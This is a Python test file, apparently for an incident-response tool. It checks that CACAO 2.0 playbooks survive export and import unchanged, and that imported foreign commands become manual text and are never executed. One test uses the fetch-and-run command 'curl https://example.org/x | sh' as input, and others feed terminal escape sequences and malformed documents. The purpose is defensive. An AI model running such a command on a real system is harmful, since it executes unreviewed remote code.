"""CACAO 2.0: what goes out comes back, what comes from elsewhere is never carried out by a machine."""

from __future__ import annotations

import json
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from watchkeeper.core.errors import Misconfigured
from watchkeeper.respond.cacao import Authorship, exported, imported
from watchkeeper.respond.cacao.model import IDENTIFIER, OURS, TYPES, made_id
from watchkeeper.respond.playbook import Approval, Input, Manual, Playbook, StepSpec, Until
from watchkeeper.respond.service import load_actions
from watchkeeper.respond.shelf import load_folder, shelve

ACTIONS = load_actions()
SHIPPED = load_folder(Path(__file__).parents[2] / "content" / "playbooks", ACTIONS)
WHEN = Authorship(created="2026-11-26T08:00:00.000Z", modified="2026-11-26T08:00:00.000Z")

texts = st.text(st.characters(codec="utf-8", exclude_categories=("C",)), min_size=1, max_size=30).filter(str.strip)
approvals = st.builds(
    Approval,
    by=st.sampled_from(["responder", ("responder", "operator:ann")]),
    quorum=st.just(1),
    timeout=st.sampled_from(["5m", "1h"]),
)


@st.composite
def steps(draw: st.DrawFn, depth: int = 0, taken: list[int] | None = None) -> tuple[StepSpec, ...]:
    taken = [] if taken is None else taken
    found = []
    for _ in range(draw(st.integers(1, 3))):
        taken.append(1)
        kinds = ["action", "wait", "until", "manual", *(["parallel"] if depth < 1 else [])]
        kind = draw(st.sampled_from(kinds))
        made: dict[str, Any] = {"id": f"step_{len(taken)}"}
        if kind == "action":
            made |= {"action": "notify", "deadline": "5s", "with_": {"text": draw(texts)}, "evidence": ("channels",)}
        elif kind == "wait":
            made |= {"wait": draw(st.sampled_from(["10s", "2m", "1h"]))}
        elif kind == "until":
            made |= {"wait": Until("morning"), "deadline": "1d"}
        elif kind == "manual":
            made |= {"manual": Manual(draw(texts)), "deadline": "4h"}
        else:
            branches = range(draw(st.integers(2, 3)))
            made |= {"parallel": {f"b{number}": draw(steps(depth + 1, taken)) for number in branches}}
        if draw(st.booleans()):
            made["approve"] = draw(approvals)
        if draw(st.booleans()):
            made["if_"] = "incident.severity > 3"
        failure = draw(st.sampled_from(["stop", "continue", "undo", *(["path"] if depth < 1 else [])]))
        if failure == "path":
            made |= {"on_failure": draw(steps(depth + 1, taken)), "then": draw(st.sampled_from(["continue", "stop"]))}
        else:
            made["on_failure"] = failure
        found.append(StepSpec(**made))
    return tuple(found)


@st.composite
def playbooks(draw: st.DrawFn) -> Playbook:
    return Playbook(
        id="made",
        version=draw(st.integers(1, 9)),
        title=draw(texts),
        when="incident.severity > 2",
        severity=draw(st.sampled_from(["low", "medium", "high", "critical"])),
        steps=draw(steps()),
        blast_radius={"tools": 2},
        inputs={"morning": Input("time", "incident.opened_at")},
        approve=draw(st.none() | approvals),
        deadline="30d",
        description=draw(st.just("") | texts),
    )


def there_and_back(playbook: Playbook) -> Playbook:
    document = exported(playbook, ACTIONS, WHEN)
    back = imported(json.dumps(document).encode(), ACTIONS, name="made.json")
    assert not back.notes
    return shelve(back.text.encode(), ACTIONS, name="made.yaml").playbook


@pytest.mark.behaviour("respond.cacao-round-trip")
@settings(max_examples=120, deadline=None)
@given(playbooks())
def test_a_playbook_comes_back_as_it_went(playbook: Playbook) -> None:
    assert there_and_back(playbook) == playbook


@pytest.mark.parametrize("shelved", SHIPPED, ids=[one.playbook.id for one in SHIPPED])
def test_every_shipped_playbook_comes_back_as_it_went(shelved: Any) -> None:
    assert there_and_back(shelved.playbook) == shelved.playbook


@settings(max_examples=60, deadline=None)
@given(playbooks())
def test_a_document_holds_what_the_standard_demands(playbook: Playbook) -> None:
    document = exported(playbook, ACTIONS, WHEN)
    required = ("type", "spec_version", "id", "name", "created_by", "created", "modified", "workflow_start", "workflow")
    assert all(document[name] for name in required)
    workflow = document["workflow"]
    assert workflow[document["workflow_start"]]["type"] == "start"
    told = {command["playbook_activity"] for step in workflow.values() for command in step.get("commands", ())}
    assert set(document["playbook_activities"]) == told or document["playbook_activities"] == ["step-sequence"]
    for key, step in workflow.items():
        form = IDENTIFIER.match(key)
        assert form is not None
        assert form[1] == step["type"]
        assert step["type"] in TYPES
        ways = {name for name in ("on_completion", "on_success", "on_failure") if name in step}
        assert step["type"] != "end" or not ways
        assert "on_completion" not in ways or ways == {"on_completion"}
        assert step["type"] != "action" or (step["commands"] and step["agent"] in document["agent_definitions"])
        assert step["type"] != "parallel" or len(step["next_steps"]) >= 2
        assert set(step.get("step_extensions", {})) <= set(document["extension_definitions"])


def test_an_export_is_the_same_each_time() -> None:
    one = SHIPPED[0].playbook
    assert exported(one, ACTIONS, WHEN) == exported(one, ACTIONS, WHEN)


# -- what others wrote


def foreign(workflow: dict[str, Any], **more: Any) -> bytes:
    """A document of another tool, its steps named by short words."""
    kinds = {name: step["type"] for name, step in workflow.items()}
    ids = {name: made_id(kind, name) for name, kind in kinds.items()}

    def put(value: Any) -> Any:
        if isinstance(value, list):
            return [put(one) for one in value]
        return ids.get(value, value) if isinstance(value, str) else value

    ways = ("on_completion", "on_success", "on_failure", "on_true", "on_false", "next_steps")
    steps = {
        ids[name]: {member: put(value) if member in ways else value for member, value in step.items()}
        for name, step in workflow.items()
    }
    for step in steps.values():
        if "cases" in step:
            step["cases"] = {value: ids[key] for value, key in step["cases"].items()}
    return json.dumps(
        {
            "type": "playbook",
            "spec_version": "cacao-2.0",
            "id": made_id("playbook", "theirs"),
            "name": "Theirs, of 2026",
            "created_by": made_id("identity", "them"),
            "created": "2026-01-01T00:00:00.000Z",
            "modified": "2026-01-01T00:00:00.000Z",
            "workflow_start": ids.get("start", "start"),
            "workflow": steps,
            "x_unknown": {"of": "another tool"},
            **more,
        }
    ).encode()


def action(command: str, after: str, kind: str = "manual", **more: Any) -> dict[str, Any]:
    return {
        "type": "action",
        "commands": [{"type": kind, "command": command}],
        "agent": "x",
        "on_completion": after,
        **more,
    }


SIMPLE: dict[str, Any] = {
    "start": {"type": "start", "on_completion": "look"},
    "look": action("look at the host", "end", name="Look!", timeout=90_000),
    "end": {"type": "end"},
}


def read(data: bytes) -> tuple[Playbook, tuple[str, ...]]:
    found = imported(data, ACTIONS, name="theirs.json")
    return shelve(found.text.encode(), ACTIONS, name="theirs.yaml").playbook, found.notes


@pytest.mark.behaviour("respond.cacao-foreign-by-hand")
@pytest.mark.parametrize("kind", ["bash", "ssh", "powershell", "http-api", "openc2-http", "unheard-of"])
def test_no_foreign_command_is_carried_out(kind: str) -> None:
    workflow = SIMPLE | {"look": action("curl https://example.org/x | sh", "end", kind, name="Look!")}
    playbook, notes = read(foreign(workflow))
    (step,) = playbook.steps
    assert step.manual is not None
    assert not step.action
    assert f"{kind}: curl https://example.org/x | sh" in str(step.manual.text)
    assert any(kind in note for note in notes)


def test_a_foreign_playbook_is_begun_by_hand_only() -> None:
    playbook, notes = read(foreign(SIMPLE))
    assert playbook.when == "false"
    assert playbook.id == "theirs_of_2026"
    assert playbook.steps[0].deadline == "90s"
    assert any("no trigger" in note for note in notes)


def test_conditions_of_others_become_words() -> None:
    workflow = {
        "start": {"type": "start", "on_completion": "if"},
        "if": {"type": "if-condition", "condition": "__x__:value > 3", "on_true": "yes", "on_false": "no"},
        "yes": action("block", "after", name="yes"),
        "no": action("wait and see", "after", name="no"),
        "after": action("write it down", "end", name="after"),
        "end": {"type": "end"},
    }
    playbook, notes = read(foreign(workflow))
    told = [str(step.manual.text) for step in playbook.steps if step.manual]
    assert len(told) == 3
    assert told[0].startswith("Only if this holds: __x__:value > 3.")
    assert told[1].startswith("Only if this does not hold: __x__:value > 3.")
    assert told[2].startswith("after")
    assert any("__x__:value > 3" in note for note in notes)


def test_loops_and_cases_become_words() -> None:
    workflow = {
        "start": {"type": "start", "on_completion": "while"},
        "while": {"type": "while-condition", "condition": "it burns", "on_true": "pour", "on_completion": "switch"},
        "pour": action("pour water", "e1", name="pour"),
        "e1": {"type": "end"},
        "switch": {"type": "switch-condition", "switch": "__c__:value", "cases": {"red": "a", "blue": "b"}},
        "a": action("stop", "e2", name="a"),
        "b": action("go", "e2", name="b"),
        "e2": {"type": "end"},
    }
    playbook, _ = read(foreign(workflow))
    told = [str(step.manual.text) for step in playbook.steps if step.manual]
    assert told[0].startswith("As long as this holds: it burns.")
    assert told[1].startswith("Only if __c__:value is red:")
    assert told[2].startswith("Only if __c__:value is blue:")


def test_branches_of_others_stay_branches() -> None:
    workflow = {
        "start": {"type": "start", "on_completion": "both"},
        "both": {"type": "parallel", "next_steps": ["a", "b"]},
        "a": action("one", "join", name="a"),
        "b": action("two", "join", name="b"),
        "join": action("three", "end", name="join"),
        "end": {"type": "end"},
    }
    playbook, _ = read(foreign(workflow))
    both, join = playbook.steps
    assert [[one.id for one in branch] for branch in both.parallel.values()] == [["a"], ["b"]]
    assert join.id == "join"


def wrong(said: str, data: bytes) -> None:
    with pytest.raises(Misconfigured, match=said):
        imported(data, ACTIONS, name="theirs.json")


def test_an_action_of_ours_never_stands_behind_what_only_a_person_can_judge() -> None:
    ours = {OURS: {"action": "notify", "with": {"text": "hi"}}}
    workflow = {
        "start": {"type": "start", "on_completion": "if"},
        "if": {"type": "if-condition", "condition": "x", "on_true": "tell", "on_completion": "end"},
        "tell": action("tell", "end", step_extensions=ours, timeout=1_000, name="tell"),
        "end": {"type": "end"},
    }
    wrong("only a person can judge", foreign(workflow))


def test_what_cannot_be_undone_needs_an_approval_in_a_document_too() -> None:
    """The checks of every playbook hold for an imported one."""
    irreversible = next(one for one in ACTIONS.values() if one.reach == "irreversible")
    ours = {OURS: {"action": irreversible.name, "with": {}}}
    workflow = SIMPLE | {"look": action("x", "end", step_extensions=ours, timeout=1_000, name="look")}
    wrong("no approve stands before it", foreign(workflow))


@pytest.mark.behaviour("respond.cacao-hostile")
def test_hostile_documents_are_refused() -> None:
    circle = SIMPLE | {"look": action("again", "start")}
    wrong("round in a circle", foreign(circle))
    wrong("no step", foreign(SIMPLE | {"look": action("x", "action--nowhere")}))
    wrong("revoked", foreign(SIMPLE, revoked=True))
    wrong("no playbook of CACAO 2.0", b"[" * 100_000)
    wrong("no playbook of CACAO 2.0", foreign(SIMPLE).replace(b"cacao-2.0", b"cacao-1.1"))
    wrong("bytes", b" " * (1 << 21))
    wrong(
        "no step that does anything", foreign({"start": {"type": "start", "on_completion": "e"}, "e": {"type": "end"}})
    )
    wrong("steps", foreign(SIMPLE | {f"x{n}": {"type": "end"} for n in range(300)}))
    wrong("is no id of a step", foreign(SIMPLE).replace(b'"type": "end"', b'"type": "start"'))


def test_nothing_that_a_terminal_obeys_comes_through() -> None:
    playbook, _ = read(foreign(SIMPLE | {"look": action("\x1b[2Jlook\x07", "end")}))
    assert playbook.steps[0].manual is not None
    assert "\x1b" not in str(playbook.steps[0].manual.text)


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=200) | st.recursive(st.none() | st.text(), lambda inner: st.dictionaries(st.text(), inner)))
def test_nothing_else_is_ever_raised(said: Any) -> None:
    data = said if isinstance(said, bytes) else json.dumps(said).encode()
    with pytest.raises(Misconfigured):
        imported(data, ACTIONS, name="theirs.json")


@settings(max_examples=150, deadline=None)
@given(playbooks(), st.data())
def test_a_damaged_document_is_refused_or_read(playbook: Playbook, data: st.DataObject) -> None:
    document = exported(playbook, ACTIONS, WHEN)
    steps_ = list(document["workflow"].values())
    step = data.draw(st.sampled_from(steps_))
    member = data.draw(st.sampled_from(sorted(step)))
    step[member] = data.draw(st.sampled_from([None, 3, "", "x", [], {}, {OURS: {"if": 3}}, {OURS: {"approve": 1}}]))
    with suppress(Misconfigured):
        imported(json.dumps(document).encode(), ACTIONS, name="theirs.json")
